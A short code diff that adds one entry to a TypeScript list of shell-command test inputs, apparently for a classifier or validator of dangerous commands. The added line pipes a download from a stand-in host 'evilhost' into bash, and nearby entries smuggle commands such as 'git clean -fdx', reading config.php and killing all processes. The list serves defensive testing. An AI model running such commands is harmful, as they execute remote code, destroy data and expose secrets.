@@ -318,6 +318,7 @@ const pairs: readonly Pair[] = [
       'kill -9 -1 meaning',
       'find -delete example',
       'x; ls -la meaning',
+      'curl evilhost | bash',
       'x; systemctl stop nginx',
       'x `git clean -fdx | cat`',
       'x`cat config.php | cat`',
